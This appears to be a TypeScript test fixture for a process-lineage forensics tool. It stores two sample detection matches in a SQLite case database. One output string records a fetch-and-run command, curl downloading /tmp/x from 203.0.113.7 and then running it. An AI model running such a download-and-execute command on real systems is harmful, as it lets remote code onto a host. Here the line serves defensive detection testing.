import Database from 'better-sqlite3';
import { copyFileSync } from 'node:fs';
import { join } from 'node:path';
import { openCaseForWrite } from '../../../src/db/open.js';

export interface StoryChains {
  /** The container match: shell (sh 4001) → fetch (curl 4002) → run (x 4005). */
  payload: number;
  /** The host match, earliest by start time: shell (bash 3100) → read (cat /etc/hostname, pid 3105). */
  hostRead: number;
  execs: { nginx: number; sh: number; curl: number; x: number; bash: number; catHostname: number };
}

/**
 * Stores two chain matches in an imported story case, as `pedigree chains run` would: rows in
 * `chains` and `chain_steps` (schema 003, applied by openCaseForWrite). path_json holds exec
 * ids only, so names and pids on screen come from the exec rows.
 */
export function addStoryChains(dbPath: string): StoryChains {
  const db = openCaseForWrite(dbPath);
  const id = (sql: string, ...params: unknown[]): number => Number((db.prepare(sql).get(...params) as { exec_id: bigint }).exec_id);
  const execOf = (pid: number, name: string): number =>
    id("SELECT exec_id FROM execs WHERE pid = ? AND name = ? AND kind = 'exec' ORDER BY exec_id LIMIT 1", pid, name);
  const execs = {
    nginx: id('SELECT exec_id FROM execs WHERE pid = 2351'),
    sh: execOf(4001, 'sh'),
    curl: execOf(4002, 'curl'),
    x: execOf(4005, 'x'),
    bash: execOf(3100, 'bash'),
    catHostname: id("SELECT exec_id FROM execs WHERE name = 'cat' AND cmdline LIKE '%hostname%'"),
  };
  const ts = (execId: number): bigint => (db.prepare('SELECT ts_ns FROM execs WHERE exec_id = ?').get(execId) as { ts_ns: bigint }).ts_ns;
  const insertMatch = db.prepare(`INSERT INTO chains (chain, priority, host_id, container_id, first_exec_id, last_exec_id, start_ns, end_ns, output, run_ns)
    VALUES (?, ?, 1, ?, ?, ?, ?, ?, ?, 0)`);
  const insertStep = db.prepare(`INSERT INTO chain_steps (chain_match_id, step_index, step, exec_id, ts_ns, linked_step, relation, path_json, host_id)
    VALUES (?, ?, ?, ?, ?, ?, ?, ?, 1)`);
  const match = (
    chain: string,
    priority: string,
    container: string | null,
    output: string,
    steps: [string, number, string | null, number[] | null][],
  ): number => {
    const first = steps[0]![1];
    const last = steps[steps.length - 1]![1];
    const matchId = Number(insertMatch.run(chain, priority, container, first, last, ts(first), ts(last), output).lastInsertRowid);
    steps.forEach(([step, execId, relation, path], i) =>
      insertStep.run(matchId, i, step, execId, ts(execId), relation === null ? null : 0, relation, path === null ? null : JSON.stringify(path)),
    );
    return matchId;
  };
  // Inserted first but starts later than the host match: the screen must order by start time.
  const payload = match(
    'Web service shell fetches and runs a payload',
    'Critical',
    '3f9a1c0e2b7d',
    'payload run from /tmp/x after curl -s -o /tmp/x http://203.0.113.7/x',
    [
      ['shell', execs.sh, null, [execs.nginx, execs.sh]],
      ['fetch', execs.curl, 'descendant_of', [execs.sh, execs.curl]],
      ['run', execs.x, 'descendant_of', [execs.sh, execs.x]],
    ],
  );
  const hostRead = match('Interactive shell reads host identity', 'Notice', null, 'bash read /etc/hostname', [
    ['shell', execs.bash, null, null],
    ['read', execs.catHostname, 'descendant_of', [execs.bash, execs.catHostname]],
  ]);
  db.close();
  return { payload, hostRead, execs };
}

/** A copy of a case as a case made before schema 003: no chain tables at all. */
export function withoutChainTables(dbPath: string, dir: string): string {
  const old = join(dir, 'old.db');
  copyFileSync(dbPath, old);
  const db = new Database(old); // not openCaseForWrite: that would apply 003 again
  db.exec("DROP TABLE chain_steps; DROP TABLE chains; DELETE FROM schema_migrations WHERE name = '003_chains.sql'");
  db.close();
  return old;
}
